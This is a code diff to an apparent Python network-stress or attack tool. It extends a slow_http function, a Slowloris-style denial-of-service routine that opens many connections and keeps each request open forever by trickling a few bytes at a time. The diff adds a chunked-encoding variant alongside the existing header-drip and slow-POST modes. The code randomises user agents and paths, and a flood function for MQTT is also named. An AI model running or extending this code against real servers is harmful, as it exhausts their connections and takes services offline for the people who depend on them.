@@ -138,7 +138,15 @@ async def mqtt_publish_flood(
 
 
 async def slow_http(
-    *, target: str, port: int, connections: int, interval: float, body: bool, seconds: float, seed: int
+    *,
+    target: str,
+    port: int,
+    connections: int,
+    interval: float,
+    body: bool,
+    chunked: bool = False,
+    seconds: float,
+    seed: int,
 ) -> None:
     """Hold many connections with requests that grow by a few bytes and never end."""
     random, end = Random(seed), time.monotonic() + seconds
@@ -148,21 +156,20 @@ async def slow_http(
         while time.monotonic() < end:
             try:
                 _, writer = await asyncio.wait_for(asyncio.open_connection(target, port), 5)
-                verb, extra = (
-                    ("POST", f"Content-Length: {random.randint(4000, 90000)}\r\n\r\n")
-                    if body
-                    else ("GET", "")
-                )
+                verb, extra = ("POST" if body or chunked else "GET"), ""
+                if body:
+                    extra = f"Content-Length: {random.randint(4000, 90000)}\r\n\r\n"
+                elif chunked:
+                    extra = "Transfer-Encoding: chunked\r\n\r\n"
                 writer.write(
                     f"{verb} /{random.getrandbits(20):x} HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {random.choice(_AGENTS)}\r\n{extra}".encode()
                 )
                 while time.monotonic() < end:
                     await asyncio.sleep(interval * random.uniform(0.7, 1.3))
-                    writer.write(
-                        random.randbytes(random.randint(1, 4)).hex().encode()
-                        if body
-                        else f"X-{random.getrandbits(16):x}: {random.getrandbits(12)}\r\n".encode()
-                    )
+                    piece = random.randbytes(random.randint(1, 4)).hex()
+                    line = f"X-{random.getrandbits(16):x}: {random.getrandbits(12)}\r\n"
+                    chunk = f"{len(piece):x}\r\n{piece}\r\n"
+                    writer.write((piece if body else chunk if chunked else line).encode())
                     await writer.drain()
                 writer.close()
             except MISHAPS:
